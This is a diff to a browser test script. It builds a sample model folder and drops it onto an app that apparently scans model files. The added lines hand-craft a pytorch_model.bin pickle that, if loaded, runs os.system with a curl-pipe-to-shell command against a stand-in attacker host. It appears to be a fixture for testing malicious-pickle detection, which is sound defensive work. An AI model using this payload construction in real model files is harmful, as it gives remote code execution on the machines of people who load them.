@@ -23,6 +23,16 @@ try {
   await writeFileAt(join(root, "model.safetensors"), safetensors("embeddings.weight", [0.1, 0.2, 0.3, 0.4]));
   await writeFileAt(join(root, "onnx", "weights.safetensors"), Buffer.from("not really tensors\n"));
   await writeFileAt(join(root, "README.md"), Buffer.from("# tiny-bert\n\nA test model.\n"));
+  // A protocol-2 pickle that calls os.system when loaded (never loaded here).
+  const cmd = "curl https://attacker.example/x | sh";
+  await writeFileAt(
+    join(root, "pytorch_model.bin"),
+    Buffer.concat([
+      Buffer.from("\x80\x02cos\nsystem\nq\x00X", "latin1"),
+      Buffer.from([cmd.length, 0, 0, 0]),
+      Buffer.from(cmd + "q\x01\x85q\x02Rq\x03.", "latin1"),
+    ]),
+  );
 
   const { page } = await openApp(browser.context, server.origin);
   await page.setViewportSize({ width: 1280, height: 900 });
@@ -33,7 +43,7 @@ try {
   for (const type of ["dragEnter", "dragOver", "drop"]) {
     await cdp.send("Input.dispatchDragEvent", { type, ...at, data });
   }
-  await waitFinished(page, 4);
+  await waitFinished(page, 5);
   await page.screenshot({ path: resolve(values.out), fullPage: true });
   console.log(`screenshot: ${values.out}`);
 } finally {
